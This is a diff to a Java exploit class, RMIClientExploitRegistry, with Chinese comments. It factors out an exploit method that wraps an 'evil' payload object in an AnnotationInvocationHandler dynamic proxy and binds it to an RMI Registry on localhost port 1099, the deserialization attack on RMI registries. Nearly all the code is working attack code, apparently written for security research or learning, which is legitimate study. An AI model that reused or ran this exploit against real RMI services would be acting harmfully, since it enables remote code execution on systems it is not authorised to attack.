@@ -32,13 +32,25 @@ public class RMIClientExploitRegistry {
 		// 连接 Registry
 		Registry registry = LocateRegistry.getRegistry("localhost", 1099);
 
+		exploit(registry, getEvilClass());
+	}
+
+	/**
+	 * 把 payload 包装在动态代理中 rebind 到指定的 Registry
+	 *
+	 * @param registry      Registry
+	 * @param payloadObject payload
+	 * @throws Exception 异常
+	 */
+	public static void exploit(Registry registry, Object payloadObject) throws Exception {
+
 		// 使用 AnnotationInvocationHandler 动态代理 Remote
 		Class<?>       c           = Class.forName("sun.reflect.annotation.AnnotationInvocationHandler");
 		Constructor<?> constructor = c.getDeclaredConstructors()[0];
 		constructor.setAccessible(true);
 
 		HashMap<String, Object> map = new HashMap<>();
-		map.put("su18", getEvilClass());
+		map.put("su18", payloadObject);
 
 		// 使用动态代理初始化 AnnotationInvocationHandler
 		InvocationHandler invocationHandler = (InvocationHandler) constructor.newInstance(Target.class, map);